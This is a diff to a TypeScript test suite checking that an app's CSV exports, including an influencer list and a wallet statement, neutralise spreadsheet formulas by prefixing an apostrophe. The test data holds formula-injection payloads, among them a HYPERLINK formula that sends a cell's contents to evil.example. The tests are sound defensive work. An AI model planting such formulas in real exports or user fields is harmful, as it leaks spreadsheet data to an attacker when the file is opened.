@@ -16,16 +16,16 @@ const clock = new ManualClock(NOW);
 let t: TestApp;
 let admin: Client;
 
-/** names a spreadsheet would run, and how each must appear in the file (one field, text) */
+/** names a spreadsheet would run, and how each must appear in the file (one field, an apostrophe first: text) */
 const HOSTILE: [string, string][] = [
   ['=HYPERLINK("http://evil.example/?"&A1,"点我")', `"'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"`],
-  ['+1', `"'+1"`],
-  ['-2', `"'-2"`],
-  ['@SUM(A1)', `"'@SUM(A1)"`],
-  ['\t=1+1', `"'\t=1+1"`],
+  ['+1', `'+1`],
+  ['-2', `'-2`],
+  ['@SUM(A1)', `'@SUM(A1)`],
+  ['\t=1+1', `'\t=1+1`],
   ['\r=1+1', `"'\r=1+1"`],
-  ['＝1+1', `"'＝1+1"`],
-  [' =1+1', `"' =1+1"`],
+  ['＝1+1', `'＝1+1`],
+  [' =1+1', `' =1+1`],
 ];
 
 /** the rows of a CSV answer (BOM removed; quoted fields may hold line breaks, so split on the row ends only) */
@@ -67,7 +67,7 @@ describe('CSV exports neutralise formulas', () => {
     }
     // numbers stay numbers, plain text stays plain
     expect(influencers.split('\r\n')[0]).toBe('influencer_id,nickname,accepted,completed');
-    expect(influencers).toMatch(/,"'-2",1,0\r\n/);
+    expect(influencers).toMatch(/,'-2,1,0\r\n/);
   });
 
   it('我的钱包 statement: a bank name in the memo; amounts (negative too) stay numbers', async () => {
@@ -81,5 +81,6 @@ describe('CSV exports neutralise formulas', () => {
     const csv = bodyOf(await c.get('/api/wallet/statement.csv'));
     const payoutRow = csv.split('\r\n').find((r) => r.includes('payout_request'));
     expect(payoutRow).toMatch(/,payout_request,"'=HYPERLINK\(""http:\/\/evil\.example""\) •••• 0123",-12\.34,487\.66$/);
+    expect(csv.split('\r\n')[1]).toMatch(/,topup,.*,500\.00,500\.00$/);
   });
 });
